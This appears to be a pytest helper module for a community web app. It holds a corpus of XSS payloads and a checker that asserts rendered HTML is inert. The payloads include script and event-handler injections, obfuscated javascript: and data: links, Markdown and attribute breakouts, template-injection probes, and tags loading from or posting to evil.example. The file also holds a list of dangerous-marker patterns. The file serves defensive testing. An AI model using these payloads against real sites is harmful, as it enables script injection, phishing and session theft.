"""Shared XSS corpus and an inertness check for any HTML that carries user text.

Import as `from xss_corpus import PAYLOADS, assert_inert` (pytest puts tests/ on sys.path).
Use PAYLOADS as member input (post bodies, bios, display names, titles, chat, questions) and
`assert_inert` on what comes out: rendered Markdown, page fragments and e-mails. For fragments
that legitimately contain other markup, pass the allow-lists that page is supposed to use.
"""

import re
from collections.abc import Iterable, Mapping
from html.parser import HTMLParser

from community.text import ALLOWED_ATTRIBUTES, ALLOWED_PROTOCOLS, ALLOWED_TAGS

__all__ = ["DANGEROUS_MARKERS", "PAYLOADS", "assert_inert"]

PAYLOADS: list[str] = [
    # Script tags
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "</p><script>alert(1)</script><p>",
    "<<script>script>alert(1)<</script>/script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=\"alert('x')\"//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    # javascript:, data: and vbscript: links in HTML, plain and obfuscated
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.org" style="position:fixed;top:0">x</a>',
    '<a href="https://example.org" onclick="alert(1)" target="_blank" rel="opener">x</a>',
    # svg and math namespace tricks
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Markdown links and images
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javas&#99;ript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://example.org/i.png)',
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x][1]\n\n[1]: https://example.org "a\\" onmouseover=\\"alert(1)"',
    '[x](https://a "onmouseover=alert(1)")',
    "[x](https://example.org' onmouseover='alert(1))",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[x](https://example.org)<!-- <script>alert(1)</script> -->",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "**<img src=x onerror=alert(1)>**",
    # Entities
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    # Embedding, forms and styles
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="width: expression(alert(1))">x</div>',
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    # Attribute and text breakouts (display names, titles)
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    # Template injection
    "{{7*7}}",
    "{% debug %}",
    "{{ request.user.password }}",
    "${7*7}",
]

# Lowercase substrings that must never appear in tag names, attribute names or URL values.
DANGEROUS_MARKERS: list[str] = [
    "<script",
    "onerror=",
    "onload=",
    "javascript:",
    "vbscript:",
    "data:text",
    "data:image/svg",
    "<iframe",
    "<svg",
    "<math",
    "<style",
    "<object",
    "<embed",
    "<form",
    "<img",
    "<meta",
    "<base",
    " style=",
    " srcdoc=",
    " formaction=",
]

# Attributes whose value a browser treats as a URL.
_URL_ATTRIBUTES = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "xlink:href",
        "data",
        "poster",
        "background",
        "cite",
        "srcset",
        "ping",
        "codebase",
        "dynsrc",
        "lowsrc",
    }
)
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
# Browsers skip tabs and newlines anywhere in a URL, and control characters and spaces at the
# ends; remove them all before looking for a scheme.
_URL_IGNORED = re.compile(r"[\x00-\x20\x7f-\x9f]")


class _InertnessChecker(HTMLParser):
    def __init__(self, tags, attributes, protocols, allow_relative_urls):
        # Keep entities unconverted in text so that a real "<" in data can be told apart
        # from an escaped "&lt;" (which is fine).
        super().__init__(convert_charrefs=False)
        self.tags = tags
        self.attributes = attributes
        self.protocols = protocols
        self.allow_relative_urls = allow_relative_urls
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in self.tags:
            self.problems.append(f"tag <{tag}> is not allowed")
        allowed = set(self.attributes.get(tag, ())) | set(self.attributes.get("*", ()))
        markup = f"<{tag}"
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            elif name not in allowed:
                self.problems.append(f"attribute {name}= on <{tag}> is not allowed")
            if name in _URL_ATTRIBUTES:
                url = _URL_IGNORED.sub("", value).lower()
                markup += f" {name}={url}"
                scheme = _SCHEME.match(url)
                if scheme and scheme.group(1) not in self.protocols:
                    self.problems.append(f"{name}= on <{tag}> uses scheme {scheme.group(1)}:")
                elif not scheme and not self.allow_relative_urls:
                    self.problems.append(f"{name}= on <{tag}> is not an absolute URL: {value!r}")
            else:
                markup += f" {name}="
        for marker in DANGEROUS_MARKERS:
            if marker in markup:
                self.problems.append(f"dangerous marker {marker!r} in {markup!r}")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        if tag not in self.tags:
            self.problems.append(f"end tag </{tag}> is not allowed")

    def handle_data(self, data):
        # Correctly escaped HTML never has a raw "<" in its text (bleach and Django write
        # "&lt;"); if the stdlib parser left one unread, a browser may read it as a tag.
        if "<" in data and self.cdata_elem is None:
            self.problems.append(f"unparsed markup in text: {data[:60]!r}")

    def handle_comment(self, data):
        lowered = data.lower()
        if "[if" in lowered or any(marker in lowered for marker in DANGEROUS_MARKERS):
            self.problems.append(f"suspicious comment: {data[:60]!r}")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction: {data[:60]!r}")

    def unknown_decl(self, data):
        self.problems.append(f"unknown declaration: {data[:60]!r}")


def assert_inert(
    html: str,
    *,
    tags: Iterable[str] = ALLOWED_TAGS,
    attributes: Mapping[str, Iterable[str]] = ALLOWED_ATTRIBUTES,
    protocols: Iterable[str] = ALLOWED_PROTOCOLS,
    allow_relative_urls: bool = False,
) -> None:
    """Fail unless `html` holds only allowed tags and attributes, no event handler and no URL
    with a scheme outside `protocols`.

    `attributes` maps a tag (or "*" for any tag) to its allowed attribute names. Escaped text
    such as "&lt;script&gt;" is fine. For whole page fragments pass the page's own tags and
    attributes and `allow_relative_urls=True` for links inside the site.
    """
    checker = _InertnessChecker(
        frozenset(tags),
        {tag: frozenset(names) for tag, names in attributes.items()},
        frozenset(p.lower() for p in protocols),
        allow_relative_urls,
    )
    checker.feed(str(html))
    checker.close()
    assert not checker.problems, f"HTML is not inert: {checker.problems}\n{html}"
